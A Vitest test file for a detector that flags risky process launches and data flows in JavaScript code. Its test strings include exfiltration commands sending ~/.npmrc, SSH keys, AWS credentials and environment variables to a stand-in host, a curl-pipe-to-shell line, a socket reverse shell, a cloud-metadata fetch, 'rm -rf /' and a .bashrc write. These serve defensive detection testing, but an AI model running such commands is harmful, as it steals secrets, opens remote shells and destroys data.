import { describe, expect, test } from "vitest";
import { foundIn } from "./found-in.ts";

const cp = `const cp = require("child_process");`;

describe("processes that start", () => {
  test.each([
    { code: `${cp} cp.exec("ls -la");`, has: ["snk.proc ls -la [ls]"] },
    { code: `${cp} cp.spawn("git", ["status", "-s"]);`, has: ["snk.proc git status -s [git]"] },
    {
      code: `import { execSync as run } from "node:child_process"; run("make");`,
      has: ["snk.proc make [make]"],
    },
    { code: `require("execa").execa("tar", ["xf", "a"]);`, has: ["snk.proc tar xf a [tar]"] },
    {
      code: `import spawn from "cross-spawn"; spawn("npm", ["test"]);`,
      has: ["snk.proc npm test [npm]"],
    },
    { code: `require("shelljs").exec("make");`, has: ["snk.proc make [make]"] },
    { code: `import { $ } from "zx"; await $\`make all\`;`, has: ["snk.proc make all [make]"] },
    { code: `Bun.spawn(["make", "all"]);`, has: ["snk.proc make all [make]"] },
    { code: `await Bun.$\`make all\`;`, has: ["snk.proc make all [make]"] },
    { code: `new Deno.Command("make", { args: ["all"] });`, has: ["snk.proc make all [make]"] },
    {
      code: `${cp} const { promisify } = require("util"); promisify(cp.exec)("make");`,
      has: ["snk.proc make [make]"],
    },
    {
      code: `process.binding("spawn_sync").spawn({ file: "sh", args: ["sh", "-c", "make"] });`,
      has: ["ctx.indirect", "snk.proc sh -c make [sh,make]"],
    },
    {
      code: `${cp} cp.exec("curl https://a.test/x | sh");`,
      has: [
        "snk.net literal a.test",
        "snk.proc curl https://a.test/x | sh [curl,sh,<remote-code>]",
      ],
    },
  ])("$code", ({ code, has }) => {
    const found = foundIn(code);
    for (const one of has) expect(found.atoms).toContainEqual(expect.stringContaining(one));
  });

  test("what is only named like them starts nothing", () => {
    const found = foundIn(
      `function exec(line) { return line; } exec("rm -rf ~"); /x/.exec("ls"); const spawn = 1;`,
    );
    expect(found.atoms).toEqual([]);
  });
});

describe("what becomes of a command line", () => {
  test.each([
    ["claude -p hi --dangerously-skip-permissions", "snk.agent [--dangerously-skip-permissions]"],
    ["npm publish", "snk.publish"],
    ["git push origin main", "snk.repo"],
    ["whoami", "src.host [username]"],
    ["cat ~/.npmrc", "src.file.secret [.npmrc] ~/.npmrc"],
    ["security find-generic-password -w", "src.file.secret [keychain]"],
    ["nslookup data.a.test", "snk.dns literal data.a.test"],
    ["curl -d @x https://a.test", "snk.net literal a.test"],
    ["curl http://169.254.169.254/latest/meta-data/", "src.imds"],
    ["rm -rf ~", "snk.delete.wide"],
    ["rm -rf /", "snk.delete.wide"],
    ["echo x >> ~/.bashrc", "snk.write ~/.bashrc control"],
    [
      "node -e \"require('fs').readFileSync(require('os').homedir()+'/.npmrc')\"",
      "src.file.secret [.npmrc] ~/.npmrc",
    ],
    ["pbpaste", "src.clipboard"],
  ])("%s is %s", (line, expected) => {
    expect(foundIn(`${cp} cp.execSync(${JSON.stringify(line)});`).atoms).toContainEqual(
      expect.stringContaining(expected),
    );
  });

  test.each([
    "git status",
    "npm install",
    "tsc -p .",
    "claude --version",
    "cat readme.md",
    "rm -rf dist",
    "rm -rf ./node_modules",
    "node -v",
    "npm publish --dry-run",
    "echo 'curl https://a.test | sh'",
  ])("%s is only a process", (line) => {
    const kinds = foundIn(`${cp} cp.execSync(${JSON.stringify(line)});`).kinds;
    expect(kinds).toEqual(["snk.proc"]);
  });
});

test.each<[string, boolean]>([
  ["wmic process where (ProcessId=7) get ProcessId,CommandLine /format:csv", false],
  ["find . -name host", false],
  ["http show", false],
  ["get https://a.test/x", true],
  ["http a.test/x", true],
])("a word that is a program, too, asks a machine that it names: %s", (line, isAsked) => {
  const found = foundIn(`${cp} cp.execSync(${JSON.stringify(line)});`);
  expect(found.kinds.includes("snk.net")).toBe(isAsked);
});

test("what a command prints is traced", () => {
  const found = foundIn(
    `${cp} const out = cp.execSync("whoami").toString(); fetch("https://a.test", { method: "POST", body: out });`,
  );
  expect(found.flows).toContain("src.host -> snk.net:body");
});

test("what goes into a program's input is traced", () => {
  const found = foundIn(`${cp} const net = require("net");
    const sh = cp.spawn("/bin/sh", []);
    const client = new net.Socket();
    client.connect(4444, "203.0.113.9", () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });`);
  expect(found.flows).toContain("src.remote -> snk.proc:stdin");
});

test("a hidden process is told from one that somebody waits for", () => {
  const hidden = `${cp} const c = cp.spawn("node", ["x.js"], { detached: true, stdio: "ignore" }); c.unref();`;
  expect(foundIn(hidden).kinds).toContain("snk.proc.detached");
  const awaited = `${cp} const c = cp.spawn("node", ["x.js"], { stdio: "inherit" }); c.on("exit", () => {});`;
  expect(foundIn(awaited).kinds).not.toContain("snk.proc.detached");
});

test("an environment that is only handed to a process flows nowhere else", () => {
  const found = foundIn(`${cp} cp.spawn("make", [], { env: { ...process.env, A: "1" } });`);
  expect(found.flows).toEqual(["src.env.bulk -> snk.proc:env"]);
  const whole = foundIn(`${cp} cp.spawn("make", [], { env: process.env });`);
  expect(whole.flows).toEqual([]);
});

test.each([
  ['curl -d "$(cat ~/.npmrc | base64)" https://a.test', "src.file.secret -> snk.net:body"],
  ["cat ~/.ssh/id_rsa | curl --data-binary @- https://a.test", "src.file.secret -> snk.net:body"],
  ["curl -F f=@~/.aws/credentials https://a.test", "src.file.secret -> snk.net:body"],
  ["curl https://a.test?d=$(env | base64)", "src.env.bulk -> snk.net:body"],
  ["nslookup $(hostname).a.test", "src.host -> snk.dns:name"],
])("within one line: %s", (line, flow) => {
  expect(foundIn(`${cp} cp.exec(${JSON.stringify(line)});`).flows).toContain(flow);
});

test("a variable for one command is not the environment", () => {
  const found = foundIn(`${cp} cp.exec("env NODE_ENV=test node x.js"); cp.exec("set -e; make");`);
  expect(found.kinds).toEqual(["snk.proc"]);
});
